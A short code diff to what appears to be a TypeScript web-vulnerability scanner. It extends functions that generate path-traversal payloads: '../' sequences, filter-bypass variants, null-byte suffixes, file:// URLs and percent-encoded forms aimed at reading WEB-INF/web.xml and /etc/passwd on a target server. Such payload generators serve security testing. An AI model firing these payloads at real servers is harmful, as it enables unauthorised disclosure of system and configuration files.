@@ -87,7 +87,7 @@ function descriptors(url: string): string[] {
   const filtered = [depth - 1, depth].filter((count) => count > 0);
   const ways = [
     ...[...steps].map((count) => '../'.repeat(count)),
-    ...filtered.map((count) => upOnceFiltered.repeat(count)),
+    ...filtered.flatMap((count) => ['', '/'].map((start) => start + upOnceFiltered.repeat(count))),
   ];
   return ['/', ...ways].map((way) => `${way}WEB-INF/web.xml`);
 }
@@ -104,7 +104,9 @@ function thorough(usual: string, url: string): string[] {
     ...(folder === '' ? [] : [`${folder}${up}etc/passwd`]),
     `${up}etc/passwd\0${ending}`,
     ...(ending === '' ? [] : [`/etc/passwd\0${ending}`]),
-    ...[...new Set(['', folder])].map((start) => `${start}${upOnceFiltered.repeat(10)}etc/passwd`),
+    ...[...new Set(['', '/', folder])].map(
+      (start) => `${start}${upOnceFiltered.repeat(10)}etc/passwd`,
+    ),
     'file:///etc/passwd',
     `${up.replaceAll('/', '%2f')}etc%2fpasswd`,
     `${'..%2f'.repeat(10)}etc%2fpasswd`.replaceAll('%', '%25'),
